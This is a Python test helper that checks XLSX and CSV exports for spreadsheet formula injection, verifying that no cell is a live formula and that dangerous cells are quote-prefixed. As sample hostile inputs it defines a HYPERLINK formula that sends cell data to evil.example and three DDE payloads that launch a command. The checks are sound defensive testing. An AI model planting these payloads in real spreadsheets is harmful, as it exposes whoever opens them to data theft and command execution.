"""Reading exports back as a spreadsheet would: no cell of an XLSX is a formula, and every CSV cell
that would start one begins with a single quote (xaso/documents/cells.py)."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

from openpyxl import load_workbook

from xaso.documents.cells import FORMULA_START

# What a hostile unit name, task or activity title looks like (OWASP's examples, in Vietnamese use).
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
CMD = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
HOSTILE = (HYPERLINK, CMD, AT, MINUS)
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?(E[-+]?[0-9]+)?", re.IGNORECASE)


def xlsx_texts(data: bytes) -> list[str]:
    """Every text cell of every sheet, after checking that none is a formula and that text which
    would start one is marked as text (quote prefix)."""
    book = load_workbook(io.BytesIO(data))  # not data_only: a formula would show as one
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(FORMULA_START):
                        assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate} is not marked as text"
    return texts


def assert_xlsx_inert(data: bytes, expected: Iterable[str]) -> None:
    texts = xlsx_texts(data)
    for value in expected:
        assert any(value in text for text in texts), f"{value!r} is missing from the workbook"


def csv_cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        # A plain negative number is a number to a spreadsheet, not a formula.
        if NUMBER.fullmatch(cell):
            continue
        assert not cell.startswith(FORMULA_START), f"CSV cell would run as a formula: {cell!r}"
    return cells


def assert_csv_inert(text: str, expected: Iterable[str]) -> None:
    cells = csv_cells(text)
    for value in expected:
        assert any(cell.startswith("'" + value) or ("'" + value) in cell for cell in cells), f"{value!r} is missing"
